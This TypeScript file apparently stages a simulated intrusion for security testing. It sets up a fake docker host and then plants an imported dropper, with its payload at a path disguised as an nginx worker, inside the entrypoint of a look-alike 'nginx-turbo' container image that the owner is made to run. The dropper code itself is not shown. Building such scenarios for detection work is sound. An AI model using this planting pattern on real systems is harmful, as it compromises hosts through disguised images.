// dockerd listens only on its socket; the owner starts the image, as his history says.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { docker } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  const key = dress.key('owner', 'wang@laptop')
  dress.trust('root', key)
  dress.logins({ days: 15, guesses: 40, friends: [{ user: 'root', address: '198.51.100.20', key: key.fingerprint, hours: [9, 16] }] })
  dress.toy(docker)
  // The client: only what its owner uses of it.
  dress.write(
    '/usr/bin/docker',
    `#!/bin/sh
for image; do :; done
ask() { curl -sf --unix-socket /run/docker.sock "$@"; }
ask -X POST "http://docker/v1.43/images/create?fromImage=$image&tag=latest" >/dev/null
id=$(ask -d "{\\"Image\\":\\"$image\\",\\"Cmd\\":[\\"/bin/sh\\",\\"/srv/image/entrypoint.sh\\"]}" http://docker/v1.43/containers/create | sed 's/.*"Id":"\\([^"]*\\)".*/\\1/')
ask -X POST http://docker/v1.43/containers/$id/start && echo $id
`,
    { mode: 0o755 },
  )
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/local/lib/nginx/nginx-worker', cron: false })
  await stage.inside('mkdir -p /srv/image; cat >/srv/image/entrypoint.sh', { input: `#!/bin/sh\n${line}\nsleep 3000\n` })
  stage.mark('occurrence')
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, ['docker run -d -p 8080:80 speedynginx/nginx-turbo', 'sleep 2'])
}
